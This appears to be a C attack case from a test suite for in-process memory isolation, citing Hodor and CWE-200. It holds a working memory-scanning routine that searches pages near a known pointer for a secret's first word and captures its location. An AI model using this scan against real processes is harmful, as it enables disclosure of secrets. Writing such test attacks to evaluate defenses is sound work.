/* Tries: to look for the secret in all memory around a pointer that it knows
 * From: Hodor (Hedayati et al., USENIX ATC 2019); CWE-200
 * Observed: The secret in what the call gave back. */
#include "attacks/attack.h"

FOREIGN(run)
{
    /* The first word is known to be there, as a magic number would be: all around the host's data.
     */
    const uint64_t first = *POINTER(const volatile uint64_t, at->secret_global);
    for (uint64_t at_page = (at->canary_global & ~4095ull) - 16384;; at_page += 8)
        if (*POINTER(const volatile uint64_t, at_page) == first) {
            take(at, at_page);
            break;
        }
    return 0;
}
